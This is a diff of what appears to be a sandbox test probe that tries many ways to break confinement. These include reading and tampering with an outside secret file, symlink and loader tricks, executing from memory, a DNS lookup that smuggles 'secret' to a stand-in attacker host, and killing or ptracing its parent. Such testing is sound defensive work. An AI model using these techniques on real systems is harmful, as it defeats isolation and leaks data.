@@ -1,71 +1,67 @@
-#!/usr/bin/python3 -I
+#!/usr/bin/python3 -IS
 """Stands in for a program that is not installed, and tries all that any of them could: MARK, OUTSIDE are written in."""
 
-import base64
-import contextlib
+import _socket as socket
 import ctypes
 import os
 import signal
-import socket
-import subprocess
 import sys
 
-MARK, OUTSIDE, RUNNABLE = "@MARK@", "@OUTSIDE@", "@RUNNABLE@"
+MARK, OUTSIDE = "@MARK@", "@OUTSIDE@"
+UNLISTED = "/usr/bin/printf"  # may be started under none of the policies
+LOADERS = ("/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1")
 
 
-def tried(attempt):
-    with contextlib.suppress(Exception):
-        attempt()
-        sys.stdout.flush()
+def show(data):
+    os.write(1, data)
 
 
 def read():
-    with open(f"{OUTSIDE}/secret.txt", "rb") as file:
-        secret = file.read()
-    print(secret, base64.b64encode(secret), secret.hex(), secret[::-1], sep="\n")
+    fd = os.open(f"{OUTSIDE}/secret.txt", os.O_RDONLY)
+    secret = os.read(fd, 4096)
+    show(secret)
+    show(secret.hex().encode())
+    show(secret[::-1])
 
 
-def write():
-    with open(f"{OUTSIDE}/pwned", "w") as file:
-        file.write(MARK)
+def write(path):
+    os.write(os.open(path, os.O_CREAT | os.O_WRONLY), MARK.encode())
 
 
 def follow():
     os.symlink(OUTSIDE, "way_out")
-    with open("way_out/pwned", "w") as file:
-        file.write(MARK)
+    write("way_out/pwned")
 
 
-def run(argv):
-    sys.stdout.write(subprocess.run(argv, capture_output=True, text=True, timeout=5, check=False).stdout)
+def run(*argv):
+    if os.path.exists(argv[0]):
+        os.waitpid(os.posix_spawn(argv[0], argv, {}), 0)
 
 
-def through_the_loader():
-    with open("/proc/self/maps") as maps:
-        loader = next(line.split()[-1] for line in maps if "/ld-linux" in line)
-    run([loader, RUNNABLE])
+def by_a_copy():
+    with open(UNLISTED, "rb") as original, open("copy", "wb") as copy:
+        copy.write(original.read())
+    os.chmod("copy", 0o755)
+    run("./copy", MARK)
 
 
 def from_memory():
     fd = os.memfd_create("program", 0)
-    with open(RUNNABLE, "rb") as file:
+    with open(UNLISTED, "rb") as file:
         os.write(fd, file.read())
-    os.execve(fd, [MARK], {})
+    os.execve(fd, ["printf", MARK], {})
 
 
 def connect():
     for port in (9, 12345):
-        with socket.create_connection(("127.0.0.1", port), timeout=1) as stream:
-            stream.send(MARK.encode())
+        stream = socket.socket()
+        stream.settimeout(1)
+        stream.connect(("127.0.0.1", port))
+        stream.close()
 
 
 def send():
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
-        datagrams.sendto(MARK.encode(), ("127.0.0.1", 12345))
-
-
-def ask():
-    socket.gethostbyname("c2VjcmV0.attacker.invalid")
+    socket.socket(type=socket.SOCK_DGRAM).sendto(MARK.encode(), ("127.0.0.1", 12345))
 
 
 def stay():
@@ -77,39 +73,35 @@ def stay():
         os._exit(0)
 
 
-def kill_others():
-    os.kill(os.getppid(), signal.SIGTERM)
-
-
 def trace_the_parent():
     ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0)
 
 
-def set_the_name():
-    socket.sethostname("pwned")
-
-
 for attempt in (
     read,
-    write,
+    lambda: write(f"{OUTSIDE}/pwned"),
     follow,
     lambda: os.link(f"{OUTSIDE}/secret.txt", "second_name"),
     lambda: os.chmod(f"{OUTSIDE}/secret.txt", 0o777),
     lambda: os.utime(f"{OUTSIDE}/secret.txt", (0, 0)),
     lambda: os.setxattr(f"{OUTSIDE}/secret.txt", "user.mark", b"x"),
-    lambda: os.rename(f"{OUTSIDE}/secret.txt", f"{OUTSIDE}/pwned"),
     lambda: os.truncate(f"{OUTSIDE}/secret.txt", 0),
-    lambda: run([RUNNABLE]),
-    lambda: run([f"{OUTSIDE}/program"]),
-    lambda: run(["/bin/sh", "-c", f"echo {MARK}"]),
-    through_the_loader,
+    lambda: os.rename(f"{OUTSIDE}/secret.txt", f"{OUTSIDE}/pwned"),
+    lambda: run(UNLISTED, MARK),
+    lambda: run(f"{OUTSIDE}/program"),
+    by_a_copy,
+    *(lambda loader=loader: run(loader, UNLISTED, MARK) for loader in LOADERS if "@LOADER@" == "tried"),
     connect,
     send,
-    ask,
-    kill_others,
+    lambda: socket.getaddrinfo("c2VjcmV0.attacker.invalid", 80),
+    lambda: os.kill(os.getppid(), signal.SIGTERM),
     trace_the_parent,
-    set_the_name,
+    lambda: os.write(os.open("/proc/sys/kernel/hostname", os.O_WRONLY), b"pwned"),
     stay,
     from_memory,
 ):
-    tried(attempt)
+    try:
+        attempt()
+    except (OSError, AttributeError):
+        continue
+sys.exit(0)
